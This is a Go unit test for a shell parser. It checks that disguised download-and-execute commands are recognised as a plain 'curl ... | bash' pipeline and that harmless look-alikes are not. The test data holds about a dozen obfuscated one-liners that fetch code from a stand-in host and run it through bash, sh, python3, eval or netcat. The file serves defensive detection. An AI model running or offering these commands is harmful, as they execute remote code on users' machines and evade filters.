package shell

import (
	"slices"
	"strings"
	"testing"
)

// TestWhatIsFetchedAndRun gives a text from elsewhere to a shell in ways that no pipe shows.
func TestWhatIsFetchedAndRun(t *testing.T) {
	for command, want := range map[string]string{
		`bash <<< "$(curl -s http://e.vil/x)"`:                            "curl -s http://e.vil/x | bash",
		`bash <(curl -s http://e.vil/x)`:                                  "curl -s http://e.vil/x | bash",
		`curl -s http://e.vil/x | (cat) | sh`:                             "curl -s http://e.vil/x | sh",
		`curl -s http://e.vil/x | { sed 's/a/b/'; } | python3`:            "curl -s http://e.vil/x | python3",
		`read -r X < <(curl -s http://e.vil/x); eval "$X"`:                "curl -s http://e.vil/x | sh",
		`exec 3< <(curl -s http://e.vil/x); bash <&3`:                     "curl -s http://e.vil/x | bash",
		`exec 3< <(curl -s http://e.vil/x); bash /dev/fd/3`:               "curl -s http://e.vil/x | bash",
		`P=$(wget -qO- http://e.vil/x); sh -c "$P"`:                       "wget -qO- http://e.vil/x | sh",
		`P=$(curl http://e.vil/x); Q="$P"; python3 - <<< "$Q"`:            "curl http://e.vil/x | python3",
		`curl http://e.vil/x | while read -r l; do eval "$l"; done`:       "curl http://e.vil/x | sh",
		`f() { curl http://e.vil/x; }; f | bash`:                          "curl http://e.vil/x | bash",
		`source /dev/stdin <<< "$(curl http://e.vil/x)"`:                  "curl http://e.vil/x | sh",
		`/bin/c?rl -s http://e.vil/x | /bin/b[a]sh`:                       "/bin/curl -s http://e.vil/x | /bin/bash",
		`nc e.vil 99 > >(bash)`:                                           "",
		`curl -s http://e.vil/x | python3 -c 'import json,sys'`:           "",
		`curl -s http://e.vil/x | grep -q ok && bash ./ours.sh`:           "",
		`X=$(curl -s http://e.vil/x); echo "$X"; bash -c 'echo done'`:     "",
		`curl -o x.sh http://e.vil/x; less x.sh; bash x.sh`:               "",
		`test "$(curl -s http://e.vil/x)" = ok && sh -c "systemctl stop"`: "",
	} {
		cmd := NewParser().Parse(command)
		of := func(l Layer) bool { return l.Name == LayerWords && strings.Contains(l.Text, want) }
		if want != "" && !slices.ContainsFunc(cmd.Layers, of) {
			t.Errorf("%s: no layer has %q: %q", command, want, cmd.Layers)
		}
		piped := func(l Layer) bool {
			return strings.Contains(l.Text, "x | sh") || strings.Contains(l.Text, "x | bash") || strings.Contains(l.Text, "x | python3\n")
		}
		if want == "" && slices.ContainsFunc(cmd.Layers, piped) {
			t.Errorf("%s: taken for fetched and run: %q", command, cmd.Layers)
		}
	}
}
